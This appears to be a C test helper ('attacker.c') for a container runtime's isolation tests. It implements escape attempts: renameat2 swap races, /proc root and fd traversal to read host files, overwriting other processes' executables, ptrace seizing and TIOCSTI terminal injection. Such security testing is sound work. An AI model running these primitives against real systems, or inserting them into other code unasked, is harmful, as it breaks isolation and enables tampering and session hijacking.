// What attackers do that a shell can't: one static program for the host's side (exchange) and for a container's.
//   exchange A B     exchanges two names again and again until SIGTERM, and prints how often
//   spy TEXT FILE    looks into every other process for something of the host: a file that holds TEXT, until SIGTERM
//   overwrite        tries to write to the executable of every process that is not its own, until SIGTERM
//   seize            attaches to every process that is not its own descendant, until SIGTERM
//   fds              prints each of its descriptors and what it is open on
//   inject TEXT      types TEXT into the terminals that it can reach
//   groups           prints its supplementary groups and what it may do without them
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static volatile sig_atomic_t stopped;

static void stop(int number) {
  (void)number;
  stopped = 1;
}

static int exchange(const char *a, const char *b) {
  unsigned long count = 0;
  while (!stopped) {
    if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2) == 0) count++;
    if (count % 50 == 0) usleep(50);
  }
  printf("%lu\n", count);
  return 0;
}

// Calls `visit` for every process but this one and the first, until SIGTERM.
static int for_others(int (*visit)(const char *pid)) {
  int rounds = 0, found = 0;
  pid_t self = getpid();
  while (!stopped && !found) {
    DIR *proc = opendir("/proc");
    if (!proc) return 3;
    for (struct dirent *entry; (entry = readdir(proc)) && !stopped;) {
      long pid = strtol(entry->d_name, NULL, 10);
      if (pid > 1 && pid != self) found += visit(entry->d_name);
    }
    closedir(proc);
    if (++rounds == 1) { printf("watching\n"); fflush(stdout); }
  }
  return 0;
}

static const char *wanted_text, *wanted_file;

static int holds(const char *path) {
  char text[256] = "";
  int file = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY);
  if (file < 0) return 0;
  ssize_t count = read(file, text, sizeof text - 1);
  close(file);
  if (count <= 0 || !memmem(text, count, wanted_text, strlen(wanted_text))) return 0;
  printf("FOUND %s\n", path);
  fflush(stdout);
  return 1;
}

static int spy_on(const char *pid) {
  char path[PATH_MAX];
  const char *up = "../../../../../../../../../..";
  snprintf(path, sizeof path, "/proc/%s/root%s", pid, wanted_file);
  if (holds(path)) return 1;
  snprintf(path, sizeof path, "/proc/%s/cwd/%s%s", pid, up, wanted_file);
  if (holds(path)) return 1;
  for (int number = 0; number < 40; number++) {
    snprintf(path, sizeof path, "/proc/%s/fd/%d/%s%s", pid, number, up, wanted_file);
    if (holds(path)) return 1;
    snprintf(path, sizeof path, "/proc/%s/fd/%d", pid, number);
    if (number > 2 && holds(path)) return 1;
  }
  return 0;
}

static ino_t own_executable;

static int overwrite_one(const char *pid) {
  char path[PATH_MAX];
  struct stat status;
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  int file = open(path, O_PATH);
  if (file < 0) return 0;
  if (fstat(file, &status) != 0 || status.st_ino == own_executable) { close(file); return 0; }
  snprintf(path, sizeof path, "/proc/self/fd/%d", file);
  for (int attempt = 0; attempt < 2000; attempt++) {
    int writable = open(path, O_WRONLY);
    if (writable >= 0) {
      ssize_t count = write(writable, "#!overwritten\n", 14);
      close(writable);
      close(file);
      printf("OVERWRITTEN %s %zd\n", pid, count);
      fflush(stdout);
      return 1;
    }
    if (errno != ETXTBSY) break;
    usleep(100);
  }
  close(file);
  return 0;
}

static int seize_one(const char *pid) {
  char path[PATH_MAX], name[PATH_MAX] = "";
  pid_t number = atoi(pid);
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  if (ptrace(PTRACE_SEIZE, number, 0, 0) != 0) return 0;
  // What was executed from the container's own files is not the runtime any more, and what has ended has no program.
  int found = readlink(path, name, sizeof name - 1) > 0 && strncmp(name, "/bin/", 5) != 0;
  if (found) printf("SEIZED %s %s\n", pid, name);
  fflush(stdout);
  ptrace(PTRACE_INTERRUPT, number, 0, 0);
  waitpid(number, NULL, __WALL);
  ptrace(PTRACE_DETACH, number, 0, 0);
  return found;
}

static int fds(void) {
  char path[PATH_MAX], link[PATH_MAX];
  for (int number = 0; number < 1024; number++) {
    snprintf(path, sizeof path, "/proc/self/fd/%d", number);
    ssize_t count = readlink(path, link, sizeof link - 1);
    if (count < 0) continue;
    link[count] = 0;
    printf("%d %s\n", number, link);
  }
  return 0;
}

static int inject(const char *text) {
  int terminals[] = {0, 1, 2, open("/dev/tty", O_RDWR | O_NOCTTY)};
  for (int i = 0; i < 4; i++)
    for (const char *c = text; *c && terminals[i] >= 0; c++)
      if (ioctl(terminals[i], TIOCSTI, c) != 0) break;
  printf("session %d of %d\n", getsid(0), getpid());
  return 0;
}

static int groups(void) {
  gid_t list[256];
  int count = getgroups(256, list);
  printf("uid %d gid %d groups", getuid(), getgid());
  for (int i = 0; i < count; i++) printf(" %d", list[i]);
  printf("\n");
  return 0;
}

int main(int argc, char **argv) {
  signal(SIGTERM, stop);
  const char *what = argc > 1 ? argv[1] : "";
  if (!strcmp(what, "exchange") && argc == 4) return exchange(argv[2], argv[3]);
  if (!strcmp(what, "fds")) return fds();
  if (!strcmp(what, "groups")) return groups();
  if (!strcmp(what, "inject") && argc == 3) return inject(argv[2]);
  if (!strcmp(what, "spy") && argc == 4) {
    wanted_text = argv[2];
    wanted_file = argv[3];
    return for_others(spy_on);
  }
  if (!strcmp(what, "overwrite")) {
    struct stat status;
    if (stat("/proc/self/exe", &status) == 0) own_executable = status.st_ino;
    return for_others(overwrite_one);
  }
  if (!strcmp(what, "seize")) return for_others(seize_one);
  fprintf(stderr, "use: see attacker.c\n");
  return 2;
}
